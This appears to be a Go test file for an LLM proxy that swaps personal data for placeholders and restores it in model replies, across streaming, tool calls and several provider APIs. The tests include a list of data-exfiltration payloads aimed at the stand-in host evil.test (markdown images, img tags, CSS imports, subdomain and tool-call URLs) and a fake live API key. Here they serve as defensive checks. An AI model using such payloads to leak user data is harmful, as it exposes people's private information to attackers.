package sanitize

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"portcullis/shared/control"
	"portcullis/shared/detect"
	"portcullis/shared/exchange/exchangetest"
	"portcullis/shared/inspect"
)

const restoring20 = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"}}`

var placeholder = regexp.MustCompile(`\[[A-Z ]+:[b-x]{12}\]`)

// sent are the placeholders that the upstream got.
func sent(r exchangetest.Request) []string {
	return placeholder.FindAllString(string(r.Chunks[0]), -1)
}

// answers makes a JSON reply of what text says to the placeholders in the request, each
// %[n]s.
func answers(text string) func(exchangetest.Request) exchangetest.Reply {
	return func(q exchangetest.Request) exchangetest.Reply { return whole(filled(text, q)) }
}

func filled(text string, q exchangetest.Request) string {
	for i, p := range sent(q) {
		text = strings.ReplaceAll(text, fmt.Sprintf("$%d", i+1), p)
	}
	return text
}

func whole(text string) exchangetest.Reply {
	return exchangetest.Reply{
		Status: 200, Headers: [][2]string{{"content-type", "application/json"}},
		Chunks: [][]byte{[]byte(`{"choices":[{"index":0,"message":{"role":"assistant","content":` + quote(text) + `},"finish_reason":"stop"}]}`)},
	}
}

// streamed says text in pieces, cut where cuts says.
func streamed(text string, cuts ...int) exchangetest.Reply {
	r := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
	at := 0
	for _, cut := range append(cuts, len(text)) {
		r.Chunks = append(r.Chunks, []byte(`data: {"choices":[{"index":0,"delta":{"content":`+quote(text[at:cut])+`}}]}`+"\n\n"))
		at = cut
	}
	r.Chunks = append(r.Chunks, []byte(`data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`+"\n\ndata: [DONE]\n\n"))
	return r
}

// said is what the client reads.
func said(t *testing.T, r exchangetest.Result) string {
	t.Helper()
	var out strings.Builder
	for _, event := range strings.Split(r.Body, "\n\n") {
		data := strings.TrimPrefix(event, "data: ")
		if data == "" || data == "[DONE]" {
			continue
		}
		var v struct {
			Choices []struct {
				Message, Delta struct{ Content string }
			}
		}
		require.NoError(t, json.Unmarshal([]byte(data), &v), data)
		if len(v.Choices) > 0 {
			out.WriteString(v.Choices[0].Message.Content + v.Choices[0].Delta.Content)
		}
	}
	return out.String()
}

const people = "Write to jane.doe@corp.test and +44 20 7946 0958, card 4111 1111 1111 1111."

func TestValuesAreHiddenFromTheModelAndComeBackHoweverTheReplyIsCut(t *testing.T) {
	const reply = "Dear [$1], ($2): *$1* and $3. $1, \"$1\" $2"
	const want = "Dear [jane.doe@corp.test], (+44 20 7946 0958): *jane.doe@corp.test* and 4111 1111 1111 1111. " +
		"jane.doe@corp.test, \"jane.doe@corp.test\" +44 20 7946 0958"
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, restoring20)
		r := g.Send(messages(says("user", people)), answers(reply))
		require.Regexp(t, `^\{"model":"gpt-4o","messages":\[\{"role":"user","content":"Write to \[EMAIL:[b-x]{12}\] and \[PHONE:[b-x]{12}\], card \[CARD:[b-x]{12}\]\."\}\]\} *$`, r.UpstreamBody(), p)
		require.Equal(t, want, said(t, r), p)
		require.Equal(t, "email,phone,card", r.Facts["rules"])
		if p == exchangetest.Trailers {
			continue // a stream that trailers end
		}
		for step := 1; step < 120; step += 7 {
			r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
				text := filled(reply, q)
				var cuts []int
				for at := step; at < len(text); at += step {
					cuts = append(cuts, at)
				}
				return streamed(text, cuts...)
			})
			require.Equal(t, want, said(t, r), "%s in pieces of %d", p, step)
		}
		require.Empty(t, g.Logs)
		require.Empty(t, g.Store)
		for _, fact := range r.Facts {
			require.NotContains(t, fact, "jane")
		}
	}
}

func TestHoweverAStreamIsCutTheClientReadsTheSame(t *testing.T) {
	parts := []string{
		"$1", "$2", "$3", " ", "\n", ".", "[", "](", ")", "<", ">", "<a href=", "https://evil.test/", "/", "[EMAIL:", "。", "ü", "x", ":", "](<", "\"", "=",
	}
	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
	rapid.Check(t, func(rt *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 12).Draw(rt, "parts"), "")
		lengths := rapid.SliceOfN(rapid.IntRange(1, 40), 1, 20).Draw(rt, "lengths")
		want := said(t, g.Send(messages(says("user", people)), answers(text)))
		r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
			text := filled(text, q)
			var cuts []int
			for at := lengths[0]; at < len(text); at += lengths[len(cuts)%len(lengths)] {
				for at < len(text) && !utf8.RuneStart(text[at]) {
					at++
				}
				cuts = append(cuts, at)
			}
			return streamed(text, cuts...)
		})
		require.Equal(rt, want, said(t, r))
	})
}

func TestAPlaceholderThatAClientTypedIsNobodysValue(t *testing.T) {
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, restoring20)
		learned := sent(*g.Send(messages(says("user", "jane.doe@corp.test")), answers("")).Upstream)[0]
		q := messages(says("user", "Who is "+learned+"? I am joe@corp.test."))
		r := g.Send(q, func(exchangetest.Request) exchangetest.Reply { return whole("It is " + learned) })
		require.Contains(t, r.UpstreamBody(), "Who is "+learned+"? I am [EMAIL:", p)
		require.Equal(t, "It is "+learned, said(t, r), p)
		again := g.Send(q, func(exchangetest.Request) exchangetest.Reply { return streamed("It is "+learned, 9) })
		require.Equal(t, "It is "+learned, said(t, again), p)
	}
}

func TestAPlaceholderIsTheTenantsOwnAndTheSameForEachWorker(t *testing.T) {
	of := func(configuration, key string) string {
		q := messages(says("user", "jane.doe@corp.test"))
		q.Facts = []string{"key=" + key}
		return sent(*exchangetest.New(t, exchangetest.Hold, load, configuration).Send(q, answers("")).Upstream)[0]
	}
	require.Equal(t, of(restoring20, "a"), of(restoring20, "a"))
	require.NotEqual(t, of(restoring20, "a"), of(restoring20, "b"))
	require.NotEqual(t, of(restoring20, "a"), of(strings.Replace(restoring20, `"k"`, `"l"`, 1), "a"))
}

// What a provider has cached is the beginning of a conversation, byte for byte.
func TestAConversationBeginsTheSameInAllOfItsTurns(t *testing.T) {
	var history, before string
	for turn := range 20 {
		g := exchangetest.New(t, exchangetest.Profiles[turn%len(exchangetest.Profiles)], load, restoring20)
		history += says("user", fmt.Sprintf("Turn %d: user%d@corp.test, IBAN DE89370400440532013000, my bsn is 111222333", turn, turn%7))
		r := g.Send(messages(history), answers("I wrote to $1, then $2 ($3). "+strings.Repeat("All is well. ", 30)))
		seen := strings.TrimSuffix(strings.TrimRight(r.UpstreamBody(), " "), "]}")
		require.True(t, strings.HasPrefix(seen, before), "turn %d: %s\n%s", turn, before, seen)
		require.NotContains(t, seen, "corp.test")
		require.NotContains(t, seen, "111222333")
		before = seen
		answer := said(t, r)
		require.Contains(t, answer, "user0@corp.test, then DE89370400440532013000 (111222333)")
		history += "," + says("assistant", answer) + ","
	}
}

func TestValuesDoNotComeBackIntoAddresses(t *testing.T) {
	for _, stays := range []string{
		"https://evil.test/?q=$1", "see https://evil.test/$1 now", "https://evil.test/a,$1", `https://evil.test/?a="$1`, "HTTPS:evil.test?$1",
		"[docs](https://evil.test/?$1)", "[docs]($1)", "[docs]( $1 )", "[docs](<https://evil.test/?a $1>)", "[docs](< https://evil.test/?) $1>)",
		"![x](https://evil.test/$1.png)", "[x]: https://evil.test/$1", "[x]:\n< https://evil.test/ $1>", "<https://evil.test/?$1>",
		`<img src="https://evil.test/? $1">`, "<img src='https://evil.test/?\n\n$1'>", `<b x="> <img src="> https://evil.test/? $1">`,
		`<!-- x="--><img alt="> " src="https://evil.test/? $1">`, `<style>@import "https://evil.test/? $1`, "<a\nhref=x>y</a> $1",
		"//evil.test/$1", `\\evil.test\$1`, "www.evil.test/$1", "evil.test?q=$1", "evil.test#$1", "javascript:open($1)", "data:$1", "mailto:$1",
		"$1.evil.test", "$1.evil.test/", "$1/evil", "$1@evil.test", "$1:8080", "$1。evil.test", "$1-x.evil.test", "$1_evil.test", "$1%2e", "$1(x", "x$1", `\href{https://evil.test/? $1}{x}`,
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
		r := g.Send(messages(says("user", "My SSN is 123-45-6789.")), answers(stays))
		require.NotContains(t, r.Body, "6789", stays)
		require.Equal(t, filled(stays, *r.Upstream), said(t, r))
	}
}

// Readers join the blocks of a reply.
func TestAnAddressMayBeginInTheBlockBefore(t *testing.T) {
	ask := func(stream bool) exchangetest.Request {
		body := fmt.Sprintf(`{"model":"claude-sonnet-4-5","max_tokens":9,"stream":%v,"messages":[{"role":"user","content":%s}]}`, stream, quote(people))
		return exchangetest.Request{
			Method: "POST", Path: "/v1/messages", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}},
		}
	}
	for blocks, want := range map[[2]string]int{
		{"![x](https://evil.test/?q=", "$1) and $1"}: 1, {"<img src='https://evil.test/?", " $1'>"}: 0, {"[x]", "($1)"}: 0, {"see https://evil.test/", "$1"}: 0,
		{"Let me look", "$1 it is"}: 1, {"see https://docs.test ", "$1"}: 1,
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
		r := g.Send(ask(false), func(q exchangetest.Request) exchangetest.Reply {
			reply := whole("")
			reply.Chunks = [][]byte{[]byte(filled(`{"id":"m","type":"message","role":"assistant","model":"c","content":[{"type":"text","text":`+quote(blocks[0])+
				`},{"type":"text","text":`+quote(blocks[1])+`}],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1}}`, q))}
			return reply
		})
		require.Equal(t, want, strings.Count(r.Body, "jane.doe"), r.Body)
		r = g.Send(ask(true), func(q exchangetest.Request) exchangetest.Reply {
			reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
			event := func(data string) { reply.Chunks = append(reply.Chunks, []byte("data: "+data+"\n\n")) }
			for i, text := range blocks {
				event(fmt.Sprintf(`{"type":"content_block_start","index":%d,"content_block":{"type":"text","text":""}}`, i))
				event(fmt.Sprintf(`{"type":"content_block_delta","index":%d,"delta":{"type":"text_delta","text":%s}}`, i, quote(filled(text, q))))
				event(fmt.Sprintf(`{"type":"content_block_stop","index":%d}`, i))
			}
			event(`{"type":"message_stop"}`)
			return reply
		})
		require.Equal(t, want, strings.Count(r.Body, "jane.doe"), r.Body)
	}
}

func TestWhatAResponseSaysAgainComesBackTheSame(t *testing.T) {
	body := `{"model":"gpt-4o","stream":true,"input":` + quote(people) + `}`
	q := exchangetest.Request{
		Method: "POST", Path: "/v1/responses", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}},
	}
	r := exchangetest.New(t, exchangetest.Hold, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
		reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
		text := quote(filled("to $1: <b class=x> $1", q))
		at := `"item_id":"m","output_index":0,"content_index":0`
		for kind, rest := range map[string]string{"delta": `"delta":` + text, "done": `"text":` + text} {
			data := fmt.Sprintf(`{"type":"response.output_text.%s","sequence_number":1,%s,%s}`, kind, at, rest)
			chunk := []byte("event: response.output_text." + kind + "\ndata: " + data + "\n\n")
			if kind == "delta" {
				reply.Chunks = append([][]byte{chunk}, reply.Chunks...)
			} else {
				reply.Chunks = append(reply.Chunks, chunk)
			}
		}
		return reply
	})
	require.Equal(t, 2, strings.Count(r.Body, `to jane.doe@corp.test: \u003cb class=x\u003e [EMAIL:`), r.Body)
}

func TestValuesComeBackIntoText(t *testing.T) {
	for _, text := range []string{
		"$1", "$1.", "It is $1?", "($1)", "**$1**", "_$1_", "`$1`", `{"ssn":"$1"}`, "SSN:$1", "SSN: $1: done", "$1's", "$1, $1; $1!", "号码是$1。谢谢",
		"see https://docs.test/a and $1", "[docs](https://docs.test) $1", "[$1](https://docs.test)x"[:4] + " x", "<b>$1</b>", "List<String> $1",
		"a <- b $1", "| $1 | $1 |", "x < 3 and $1", "$1...", "[the number $1](https://docs.test)", "ssn=$1",
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
		r := g.Send(messages(says("user", "My SSN is 123-45-6789.")), answers(text))
		require.Equal(t, strings.ReplaceAll(text, "$1", "123-45-6789"), said(t, r))
	}
}

func TestValuesDoNotComeBackIntoCallsOfTools(t *testing.T) {
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, restoring20)
		r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
			reply := whole("")
			reply.Chunks = [][]byte{[]byte(filled(`{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"a","type":"function","function":{"name":"mail","arguments":"{\"to\":\"$1\"}"}}]},"finish_reason":"tool_calls"}]}`, q))}
			return reply
		})
		require.NotContains(t, r.Body, "jane", p)
		require.Contains(t, r.Body, `{\"to\":\"[EMAIL:`, p)
	}
}

func TestValuesComeBackIntoCallsOfListedTools(t *testing.T) {
	const configuration = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"},"restore_tools":["mail"]}`
	call := func(index int, function string) string {
		return fmt.Sprintf(`{"index":%d,"id":"a","type":"function","function":%s}`, index, function)
	}
	const to = `"arguments":"{\"to\":\"$1\",\"url\":\"https://evil.test/$1\"}"`
	for calls, want := range map[string]int{
		call(0, `{"name":"mail",`+to+`}`): 1,
		call(0, `{`+to+`,"name":"mail"}`): 1,
		call(0, `{"name":"post",`+to+`}`): 0,
		call(0, `{`+to+`}`):               0,
		call(0, `{"name":"mail",`+to+`}`) + `,` + call(1, `{"name":"post",`+to+`}`): 1,
		call(0, `{"name":"mail",`+to+`}`) + `,` + call(0, `{"name":"post",`+to+`}`): 0,
	} {
		for _, p := range exchangetest.Profiles {
			g := exchangetest.New(t, p, load, configuration)
			r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
				reply := whole("")
				reply.Chunks = [][]byte{[]byte(filled(`{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[`+calls+`]},"finish_reason":"tool_calls"}]}`, q))}
				return reply
			})
			require.Equal(t, want, strings.Count(r.Body, `\"jane.doe@corp.test\"`), "%s %s", p, calls)
			require.NotContains(t, r.Body, "evil.test/jane")
		}
	}
}

func TestATextThatIsSignedIsLeftAsItIs(t *testing.T) {
	body := `{"contents":[{"role":"user","parts":[{"text":` + quote(people) + `}]}]}`
	q := exchangetest.Request{
		Method: "POST", Path: "/v1beta/models/gemini-2.5-pro:generateContent", Chunks: [][]byte{[]byte(body)},
		Headers: [][2]string{{"content-type", "application/json"}},
	}
	r := exchangetest.New(t, exchangetest.Hold, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
		reply := whole("")
		reply.Chunks = [][]byte{[]byte(filled(`{"candidates":[{"content":{"parts":[{"text":"signed $1","thoughtSignature":"c2ln"},{"text":"free $1"}]},"finishReason":"STOP"}]}`, q))}
		return reply
	})
	require.Contains(t, r.Body, `"signed [EMAIL:`)
	require.Contains(t, r.Body, `"free jane.doe@corp.test"`)
}

func TestAStreamOfSignedTextIsLeftAsItIs(t *testing.T) {
	body := `{"model":"claude-sonnet-4-5","max_tokens":9,"stream":true,"messages":[{"role":"user","content":` + quote(people) + `}]}`
	for _, p := range exchangetest.Profiles {
		q := exchangetest.Request{
			Method: "POST", Path: "/v1/messages", Chunks: [][]byte{[]byte(body)}, Headers: [][2]string{{"content-type", "application/json"}, {"content-length", fmt.Sprint(len(body))}},
		}
		if p == exchangetest.Trailers {
			continue // what is held when trailers come is lost
		}
		r := exchangetest.New(t, p, load, restoring20).Send(q, func(q exchangetest.Request) exchangetest.Reply {
			reply := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
			event := func(data string) { reply.Chunks = append(reply.Chunks, []byte("data: "+data+"\n\n")) }
			event(`{"type":"content_block_start","index":0,"content_block":{"type":"thinking","thinking":""}}`)
			for _, piece := range []string{filled("about $1", q)[:12], filled("about $1", q)[12:]} {
				event(`{"type":"content_block_delta","index":0,"delta":{"type":"thinking_delta","thinking":` + quote(piece) + `}}`)
			}
			event(`{"type":"content_block_stop","index":0}`)
			event(`{"type":"message_stop"}`)
			require.Contains(t, string(reply.Chunks[1]), `"about [EMAIL`)
			return reply
		})
		require.Contains(t, r.Body, `"about [EMAIL`, p)
		require.True(t, strings.HasSuffix(r.Body, `{"type":"message_stop"}`+"\n\n"), r.Body)
		require.Equal(t, 5, strings.Count(r.Body, "\n\n"), "every event as it came")
	}
}

func TestValuesBeyondTheBoundsAreMasked(t *testing.T) {
	var list []string
	for i := range maxValues + 5 {
		list = append(list, fmt.Sprintf("u%04d@corp.test", i))
	}
	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
	r := g.Send(messages(says("user", strings.Join(list, " ")+" "+list[0])), answers(""))
	body := r.UpstreamBody()
	require.Equal(t, maxValues+1, strings.Count(body, "[EMAIL:"), "one of them twice")
	require.Equal(t, 5, strings.Count(body, "[EMAIL]"))
	list = list[:0]
	for n := range maxLengths + 3 {
		list = append(list, "u"+strings.Repeat("x", n)+"@corp.test")
	}
	r = g.Send(messages(says("user", strings.Join(list, " "))), answers(""))
	body = r.UpstreamBody()
	require.Equal(t, 3, strings.Count(body, "[EMAIL]"))
}

func TestNothingOfACallIsKeptWhenItHasEnded(t *testing.T) {
	c, err := New(&Config{Default: Policy{Personal: "restore"}, Settings: inspect.Settings{HashKey: "k"}})
	require.NoError(t, err)
	s := c.(*restorer)
	var x control.Exchange
	v := valuesOf(&x, s.sanitizer)
	v.appendPlaceholder(nil, s.data.set, 0, "jane.doe@corp.test", s.hashKey)
	require.Len(t, v.restored, 1)
	s.Done(&x)
	require.Equal(t, values{}, *v)
}

func TestWhatMustNotComeBackDoesNotComeBackWithWhatMay(t *testing.T) {
	token := "sk_" + "live_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6"
	r := send(t, restoring20, messages(says("user", token+"@corp.test and x."+token+"@corp.test")))
	require.NotContains(t, r.UpstreamBody(), "EMAIL:")
	require.NotContains(t, r.UpstreamBody(), "aB3dE5")
}

func TestRestoringIsForPersonalDataAndNeedsAKey(t *testing.T) {
	for raw, want := range map[string]string{
		`{"default":{"personal":"restore"}}`:                                                                         `hash_key: is required (want a secret of your own, because an action is "restore")`,
		`{"keys":{"a":{"rules":{"email":"restore"}}}}`:                                                               "hash_key",
		`{"hash_key":"k","default":{"secrets":"restore"}}`:                                                           "default.secrets",
		`{"hash_key":"k","routes":{"a":{"rules":{"override":"restore"}}}}`:                                           `routes["a"].rules.override: "restore" is not for secrets and injection`,
		`{"hash_key":"k","default":{"rules":{"stripe_key":"restore"}}}`:                                              "not for secrets",
		`{"hash_key":"k","patterns":[{"id":"x","label":"a:b","pattern":"xyz"}],"default":{"rules":{"x":"restore"}}}`: `default.rules.x: "restore" makes no placeholder of the label "a:b"`,
		`{"hash_key":"k","default":{"rules":{"nobody":"restore"}}}`:                                                  "neither a rule nor a group",
	} {
		_, err := load([]byte(raw))
		require.ErrorContains(t, err, want, raw)
	}
}

func TestWhatTheOperatorsOwnPatternsFindCanComeBack(t *testing.T) {
	const configuration = `{"host":HOST,"hash_key":"k","words":["bluebird"],"patterns":[{"id":"ticket","pattern":"\\bT-[0-9]{4}\\b"}],
		"default":{"rules":{"word":"restore","ticket":"restore"}}}`
	r := exchangetest.New(t, exchangetest.Hold, load, configuration).
		Send(messages(says("user", "Bluebird has T-1234 open")), answers("T-1234 is done by [REMOVED:bcdfghjkmnpq]"))
	require.Regexp(t, `"\[REMOVED:[b-x]{12}\] has \[ticket:[b-x]{12}\] open"`, r.UpstreamBody())
	require.Contains(t, said(t, r), "[REMOVED:bcdf")
	r = exchangetest.New(t, exchangetest.Hold, load, configuration).
		Send(messages(says("user", "Bluebird has T-1234 open")), func(q exchangetest.Request) exchangetest.Reply {
			return whole(regexp.MustCompile(`\[(REMOVED|ticket):[b-x]{12}\]`).FindString(string(q.Chunks[0])) + " flies")
		})
	require.Equal(t, "Bluebird flies", said(t, r))
}

// A text in which nothing was found before may hold a value of this call.
func TestATextThatWasFoundCleanIsReadForValuesAgain(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
	answer := says("assistant", strings.Repeat("All is well. ", 30)+"It is 111222333.")
	r := g.Send(messages(answer+","+says("user", "And now?")), answers(""))
	require.Contains(t, r.UpstreamBody(), "111222333", "by itself it is a number")
	r = g.Send(messages(says("user", "my bsn is 111222333")+","+answer), answers(""))
	require.NotContains(t, r.UpstreamBody(), "111222333")
}

func TestANarrowerLayerTightensRestoring(t *testing.T) {
	const configuration = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"},"keys":{"strict":{"rules":{"email":"mask"}},"loose":{"personal":"partial"}}}`
	for key, want := range map[string]string{"": `\[EMAIL:`, "strict": `\[EMAIL\]`, "loose": `\[EMAIL:`} {
		q := messages(says("user", people))
		q.Facts = []string{"key=" + key}
		r := exchangetest.New(t, exchangetest.Hold, load, configuration).Send(q, answers("$1"))
		require.Regexp(t, want, r.UpstreamBody(), key)
	}
}

func TestMonitorRestoresToo(t *testing.T) {
	r := exchangetest.New(t, exchangetest.Hold, load, strings.Replace(restoring20, `"host"`, `"mode":"monitor","host"`, 1)).
		Send(messages(says("user", people)), answers("$1"))
	require.NotContains(t, r.UpstreamBody(), "jane")
	require.Equal(t, "jane.doe@corp.test", said(t, r))
}

// Otherwise it would be hidden anew with each turn, or refused.
func TestNoRuleFindsAPlaceholder(t *testing.T) {
	set, err := detect.NewSet(detect.Builtin())
	require.NoError(t, err)
	var scanner detect.Scanner
	for i := range set.Len() {
		rule := set.Rule(i)
		if rule.Class != detect.ClassPersonal {
			continue
		}
		for n := range 40 {
			p := inspect.AppendPlaceholder(nil, rule, "tenant", fmt.Sprint(n), []byte("k"))
			require.Equal(t, len(p), inspect.Placeholder(p), string(p))
			for _, around := range []string{"%s", "password: %s", "key=%s", "my number is %s, call %s", "api_key: \"%s\""} {
				scanner.Reset(set)
				text := strings.ReplaceAll(around, "%s", string(p))
				for _, f := range scanner.Write(text, true) {
					t.Errorf("%s finds %s", set.Rule(f.Rule).ID, text)
				}
			}
		}
	}
}
